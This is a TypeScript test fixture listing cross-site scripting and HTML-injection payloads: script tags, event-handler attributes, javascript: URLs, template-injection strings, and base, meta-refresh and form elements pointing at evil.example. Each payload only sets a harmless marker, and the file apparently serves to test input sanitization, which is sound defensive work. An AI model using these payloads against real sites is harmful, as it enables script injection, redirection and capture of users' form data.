/**
 * What somebody may write to have the page run a script or make an element. A script of theirs would set
 * `window.taken`; an element of theirs has `data-taken`.
 */
export const hostile = [
  '<script data-taken>window.taken=1</script>',
  '<img data-taken src=x onerror="window.taken=1">',
  '"><svg data-taken onload=window.taken=1>',
  "'><iframe data-taken srcdoc='<script>parent.taken=1</script>'>",
  '<a data-taken href="javascript:window.taken=1">click</a>',
  'javascript:window.taken=1',
  'JaVaScRiPt&colon;window.taken=1//https://example.com',
  'data:text/html,<script data-taken>parent.taken=1</script>',
  '<details data-taken open ontoggle=window.taken=1>x</details>',
  '<video data-taken><source onerror="window.taken=1"></video>',
  '<input data-taken autofocus onfocus=window.taken=1>',
  '<math data-taken><mi xlink:href="data:x,<script>window.taken=1</script>">',
  '<object data-taken data="javascript:window.taken=1"></object>',
  '<style data-taken>body{display:none}</style>',
  '<base data-taken href="https://evil.example/">',
  '<meta data-taken http-equiv="refresh" content="0;url=https://evil.example/">',
  '<form data-taken action="https://evil.example/"><button>Send</button></form>',
  '<template data-taken><img src=x onerror=window.taken=1></template>',
  '</textarea></title><body data-taken onload=window.taken=1>',
  '<!--><img data-taken src=x onerror=window.taken=1>-->',
  '{{constructor.constructor("window.taken=1")()}}',
  '<%= window.taken=1 %>#{window.taken=1}',
  '&lt;img data-taken src=x onerror=window.taken=1&gt;',
  '\\u003cimg data-taken src=x onerror=window.taken=1\\u003e',
  '<<b data-taken>>bold<</b>>',
  '<noscript><p data-taken title="</noscript><img src=x onerror=window.taken=1>">',
] as const
